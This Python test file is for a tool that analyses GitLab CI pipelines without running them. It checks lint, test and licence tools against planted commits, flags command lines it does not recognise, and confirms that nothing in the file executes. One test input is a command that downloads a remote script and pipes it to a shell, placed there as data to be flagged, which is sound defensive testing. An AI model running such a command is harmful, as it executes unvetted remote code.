# SPDX-FileCopyrightText: 2026 Atelier libre contributors
# SPDX-License-Identifier: LiLiQ-P-1.1

"""A pipeline is followed and never run; what it is followed on is as the real tools say."""

import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from atelier.checks.integration import check
from atelier.pipeline import (
    BrokenPipelineError,
    Tool,
    pipeline_of,
    stop_of,
    unknown_lines,
    uses_of,
)

# The four planted commits of exercise 4.E6: a good one, and what each bad one changes in it.
# REUSE-IgnoreStart
HEADER = "# SPDX-FileCopyrightText: 2026 Ville\n# SPDX-License-Identifier: CC0-1.0\n"
# REUSE-IgnoreEnd
CODE = HEADER + '"""A tool."""\n\n\ndef total(prices: list[int]) -> int:\n    return sum(prices)\n'
TEST = (
    HEADER
    + "from outil.calcul import total\n\n\ndef test_total():\n    assert total([1, 2]) == 3\n"
)
LICENCES = Path(__file__).resolve().parents[3] / "LICENSES"
GOOD = {
    "outil/__init__.py": HEADER,
    "outil/calcul.py": CODE,
    "tests/test_calcul.py": TEST,
    "requirements.txt": HEADER + "ruff\npytest\nreuse\n",
    "LICENSES/CC0-1.0.txt": (LICENCES / "CC0-1.0.txt").read_text(encoding="utf-8"),
}
BAD = {
    Tool.LINT: {"outil/calcul.py": CODE.replace('"""A tool."""\n', '"""A tool."""\n\nimport os\n')},
    Tool.TEST: {"outil/calcul.py": CODE.replace("sum(prices)", "sum(prices) + 1")},
    Tool.REUSE: {"outil/notes.txt": "Notes\n"},
}
COMMANDS = {
    Tool.LINT: ["ruff", "check", "--isolated", "--no-cache"],
    Tool.TEST: ["pytest", "-q", "-p", "no:cacheprovider", "--rootdir=."],
    Tool.REUSE: ["reuse", "--root", ".", "lint", "--quiet"],
}
GITLAB = "image: python:3.12\n\nchecks:\n  script:\n"


def says_no(tool: Tool, folder: Path) -> bool:
    """Return whether the real tool refuses the files."""
    command = [sys.executable, "-m", *COMMANDS[tool]]
    environment = {"PYTHONPATH": ".", "PYTHONDONTWRITEBYTECODE": "1", "PATH": "/usr/bin:/bin"}
    return bool(subprocess.run(command, cwd=folder, env=environment, check=False).returncode)


@pytest.mark.parametrize("wrong", [None, *Tool])
def test_each_planted_commit_is_refused_by_its_own_tool_and_by_no_other(
    wrong: Tool | None, tmp_path: Path
) -> None:
    for name, text in (GOOD | (BAD[wrong] if wrong else {})).items():
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_text(text, encoding="utf-8")

    assert {tool for tool in Tool if says_no(tool, tmp_path)} == ({wrong} if wrong else set())


def lines(*commands: str) -> str:
    return GITLAB + "".join(f"    - {command}\n" for command in commands)


@pytest.mark.parametrize(
    ("command", "counts"),
    [
        ("ruff check", True),
        ("python -m ruff check .", True),
        ("uvx ruff check outil", True),
        ("CI=1 ruff check && echo fini", True),
        ("ruff check || exit 1", True),
        ("ruff check || true", False),
        ("ruff check || echo bof", False),
        ("ruff check || exit 0", False),
        ("ruff check --fix", False),
        ("set +e; ruff check", False),
    ],
)
def test_a_no_counts_unless_something_lets_it_pass(command: str, counts: bool) -> None:  # noqa: FBT001 - a parameter
    uses = uses_of(pipeline_of(lines(command)), Tool.LINT)

    assert [use.counts and use.sees for use in uses] == [counts]


@pytest.mark.parametrize(
    "command",
    [
        "ruff check | tee journal",
        "ruff check; $(curl -s https://example.org | sh)",
        "if ruff check; then echo oui; fi",
        "bash verifier.sh",
        "ruff check 'sans fin",
        "ruff check > journal",
        "eval ruff check",
    ],
)
def test_a_line_that_is_not_known_is_said_to_be_so(command: str) -> None:
    assert unknown_lines(pipeline_of(lines(f'"{command}"')))


def test_a_tool_that_is_not_installed_stops_the_good_commit_too() -> None:
    stop = stop_of(pipeline_of(lines("pip install ruff", "ruff check", "pytest")))

    assert stop is not None
    assert (stop.fact, stop.what) == ("not-installed", "pytest")


@pytest.mark.parametrize(
    "text",
    ["- a\n- b\n", "texte", "jobs: []\n", "a: &a [*a]\n", "\t\n", "a: 'b\n"],
)
def test_what_is_no_pipeline_is_said_to_be_none(text: str) -> None:
    with pytest.raises(BrokenPipelineError):
        pipeline_of(text)


def test_nothing_in_the_file_is_run(tmp_path: Path) -> None:
    trap = tmp_path / "trap"
    text = lines(f"touch {trap}", f"python -c \"open('{trap}', 'w')\"", f"ruff check; touch {trap}")
    (tmp_path / "ci.yml").write_text(text, encoding="utf-8")
    check(tmp_path)

    assert not trap.exists()


@settings(deadline=None, max_examples=60)
@given(
    st.lists(st.text(alphabet=st.characters(codec="utf-8"), max_size=40), max_size=6),
    st.sampled_from(["", "jobs:\n  a:\n    steps:\n", GITLAB]),
)
def test_whatever_is_written_gets_a_verdict(
    tmp_path_factory: pytest.TempPathFactory, words: list[str], head: str
) -> None:
    folder = tmp_path_factory.mktemp("ci")
    text = head + "".join(f"    - {word}\n" for word in words)
    (folder / "ci.yml").write_text(text, encoding="utf-8")

    assert 0 <= check(folder).points <= check(folder).maximum
